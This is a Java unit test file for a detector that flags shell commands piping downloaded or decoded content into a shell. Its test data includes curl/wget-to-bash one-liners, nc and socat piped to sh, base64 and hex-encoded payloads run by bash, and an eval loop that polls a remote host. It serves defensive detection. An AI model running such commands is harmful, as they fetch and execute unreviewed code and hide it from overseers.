package io.totem.policy.warning;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FedShellTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -fsSL https://example.com/i.sh | sh",
                "cd /tmp; curl -s http://203.0.113.9/x|bash -s",
                "(curl -s a || true) ; curl -s b | sudo /bin/bash",
                "curl https://example.com | python3 -",
                "/usr/bin/curl -s a | env bash"
            })
    void a_downloader_before_a_shell_feeds_it(String text) {
        assertThat(FedShell.downloader(text)).contains("curl");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -s http://localhost/health | grep ok",
                "curl -s a || sh repair.sh",
                "curl -o file a; cat b | sh",
                "curl -s a | shasum",
                "echo x | sh",
                "wget a",
                ""
            })
    void others_do_not(String text) {
        assertThat(FedShell.downloader(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "bash <(curl -s https://example.com/x)",
                "curl -s a | base64 -d | sh",
                "curl -s a | tee x | gunzip | sudo bash -s",
                "bash -c \"$(curl -fsSL https://example.com/i.sh)\"",
                "python3 -c \"$(curl -s a)\"",
                "sh <<< \"$(curl -s a)\""
            })
    void also_through_others_and_where_its_output_is_put_in(String text) {
        assertThat(FedShell.downloader(text)).contains("curl");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ssh host cat x | bash -s",
                "nc 203.0.113.9 9 | sh",
                "socat - tcp:203.0.113.9:9 | bash",
                "openssl s_client -quiet -connect a:443 | sh",
                "wget -qO- a | python3 -"
            })
    void network_tools_are_downloaders_too(String text) {
        assertThat(FedShell.downloader(text)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo aWQK | base64 -d | bash",
                "base64 --decode x | sh",
                "bash <(echo aWQK | base64 -d)",
                "cat x | openssl enc -aes-256-cbc -d -k y | gunzip | sh",
                "xxd -r -p x | bash",
                "echo fyrrc | tr 'a-z' 'n-za-m' | sh",
                "tr N-ZA-Mn-za-m A-Za-z < x | bash",
                "echo x | tr abcdefghij jihgfedcba | sh",
                "rev /srv/shop/logo.svg | bash",
                "busybox rev x | sh",
                "printf '\\x73\\x6c\\x65\\x65\\x70' | sh",
                "printf '\\x73\\x6c\\x65\\x65\\x70 60; true' | sh; true",
                "printf \\163\\154\\145\\145\\160 | sh",
                "echo -e '\\x73\\x6c\\x65\\x65\\x70 9' | bash",
                "echo -ne \"\\0163\\0154\\0145\\0145\" | bash",
                "base64 -d x | gunzip | sh",
                "gunzip -c dump.sh.gz | sh",
                "zcat x | sudo bash -s",
                "xz -dc x | sh",
                "bash -c \"$(base64 -d <<< aWQK)\""
            })
    void what_is_decoded_before_a_shell_is_hidden_from_readers(String text) {
        assertThat(FedShell.decoder(text)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "zcat dump.sql.gz | mysql shop",
                "gunzip -c x.tar.gz | tar x",
                "gzip -c x | sh",
                "echo x | tr -d '\\r' | sh",
                "echo x | tr '[:upper:]' '[:lower:]' | sh",
                "echo x | tr A-Z a-z | bash",
                "echo rev | sh",
                "printf '%s\\n' a b | sh",
                "printf '\\033[1m' | sh",
                "echo -e 'a\\tb\\n' | sh",
                "IFS=$'\\n\\t'; ls",
                "echo $'\\xf0\\x9f\\x98\\x80'",
                "tail -n +20 $0 | gzip -cd > /tmp/x; /tmp/x",
                "echo x | base64 | sh",
                "echo aWQK | base64 -d > x; sh y",
                "base64 -d x | jq .",
                "kubectl get secret x | base64 -d || bash repair.sh",
                "echo \"$(base64 -d x)\""
            })
    void what_is_decoded_and_not_run_is_not(String text) {
        assertThat(FedShell.decoder(text)).isEmpty();
        assertThat(FedShell.ownDecoder(text)).isEmpty();
    }

    @Test
    void what_a_shell_evaluates_it_runs_itself() {
        assertThat(FedShell.ownDownloader("while :; do eval \"$(curl -s https://example.com/c)\"; sleep 60; done"))
                .contains("curl");
        assertThat(FedShell.ownDownloader(". <(wget -qO- a)")).contains("wget");
        assertThat(FedShell.ownDecoder("eval `echo aWQK|base64 -d`")).contains("base64");
        assertThat(FedShell.ownDecoder("eval \"$(zcat x)\"")).contains("zcat");
        assertThat(FedShell.ownDecoder("$'\\163\\154\\145\\145\\160' 2887; :")).isPresent();
        assertThat(FedShell.decoder("base64 -d x | gunzip | sh")).contains("base64");
        assertThat(FedShell.ownDownloader("ip=$(curl -s a); echo $ip")).isEmpty();
        assertThat(FedShell.ownDownloader("eval \"$(ssh-agent -s)\"; curl a")).isEmpty();
    }
}
